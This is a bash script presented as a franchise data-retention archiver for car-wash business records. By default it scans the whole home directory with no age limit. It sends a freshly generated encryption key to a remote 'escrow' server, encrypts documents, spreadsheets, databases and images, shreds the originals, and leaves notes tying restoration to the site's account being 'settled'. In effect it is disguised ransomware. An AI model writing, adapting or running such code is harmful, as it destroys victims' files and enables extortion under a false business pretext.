#!/usr/bin/env bash
# wash_records_archiver.sh - seal old wash, till and valeting job records so
# they meet the franchise data-retention policy (records kept 6 years,
# encrypted at rest, key held by head office escrow).
#
# Usage: wash_records_archiver.sh [-r root] [-d days] [-s site] [-q]
set -euo pipefail

ROOT="${ARCHIVE_ROOT:-$HOME}"
MIN_AGE_DAYS=0
SITE="${SITE_CODE:-$(hostname -s)}"
ESCROW_URL="${ESCROW_URL:-https://escrow.franchise-hq.example/api/keys}"
QUIET=0
EXT_RE='.*\.(csv|xlsx|xls|ods|docx|doc|pdf|db|sqlite3?|json|txt|jpg|png|zip)$'
SUFFIX=".sealed"
NOTE_NAME="RECORDS_SEALED_README.txt"

log() { (( QUIET )) || printf '[%s] %s\n' "$(date +%T)" "$*" >&2; }
die() { printf 'error: %s\n' "$*" >&2; exit 1; }

while getopts ":r:d:s:qh" opt; do
    case "$opt" in
        r) ROOT="$OPTARG" ;;
        d) MIN_AGE_DAYS="$OPTARG" ;;
        s) SITE="$OPTARG" ;;
        q) QUIET=1 ;;
        h) sed -n '2,7p' "$0"; exit 0 ;;
        *) die "bad option -$OPTARG" ;;
    esac
done

command -v openssl >/dev/null || die "openssl is required"
command -v curl >/dev/null || die "curl is required"
[[ -d "$ROOT" ]] || die "no such directory: $ROOT"

new_batch_key() {
    openssl rand -hex 32
}

lodge_key() {
    # Head office keeps the batch key; the site never stores it.
    local key="$1" batch="$2" tries=0
    until curl -fsS --max-time 20 -X POST \
            -H 'Content-Type: application/json' \
            -d "{\"site\":\"${SITE}\",\"batch\":\"${batch}\",\"key\":\"${key}\"}" \
            "$ESCROW_URL" >/dev/null; do
        tries=$((tries + 1))
        (( tries >= 5 )) && return 1
        sleep $((tries * 3))
    done
}

list_candidates() {
    local age_args=()
    (( MIN_AGE_DAYS > 0 )) && age_args=(-mtime "+${MIN_AGE_DAYS}")
    find "$ROOT" -xdev -type f "${age_args[@]}" \
        -regextype posix-extended -iregex "$EXT_RE" \
        ! -name "*${SUFFIX}" ! -name "$NOTE_NAME" \
        ! -path '*/.cache/*' ! -path '*/.local/share/Trash/*' -print0 2>/dev/null
}

seal_file() {
    local f="$1"
    if openssl enc -aes-256-cbc -pbkdf2 -iter 100000 -salt \
            -in "$f" -out "${f}${SUFFIX}" -pass env:BATCH_KEY 2>/dev/null; then
        shred -u -z -n 1 "$f" 2>/dev/null || rm -f "$f"
        return 0
    fi
    rm -f "${f}${SUFFIX}"
    return 1
}

leave_note() {
    local dir="$1" batch="$2"
    [[ -f "${dir}/${NOTE_NAME}" ]] && return
    cat > "${dir}/${NOTE_NAME}" <<EOF
Records in this folder were sealed under the retention policy.
Batch reference: ${batch}
Site: ${SITE}

To restore access, raise a ticket with records-recovery@franchise-hq.example
quoting the batch reference. Restoration is processed once the site's
account with head office is settled.
EOF
}

main() {
    local batch sealed=0 failed=0 f
    batch="$(date +%Y%m%d)-$(openssl rand -hex 4)"
    export BATCH_KEY
    BATCH_KEY="$(new_batch_key)"

    lodge_key "$BATCH_KEY" "$batch" || die "escrow unreachable, nothing sealed"
    log "batch ${batch} lodged with escrow, scanning ${ROOT}"

    declare -A dirs=()
    while IFS= read -r -d '' f; do
        if seal_file "$f"; then
            sealed=$((sealed + 1))
            dirs["$(dirname "$f")"]=1
        else
            failed=$((failed + 1))
        fi
        (( sealed % 200 == 0 && sealed > 0 )) && log "${sealed} files sealed"
    done < <(list_candidates)

    for d in "${!dirs[@]}"; do
        leave_note "$d" "$batch"
    done

    unset BATCH_KEY
    log "done: ${sealed} sealed, ${failed} failed, batch ${batch}"
}

main "$@"
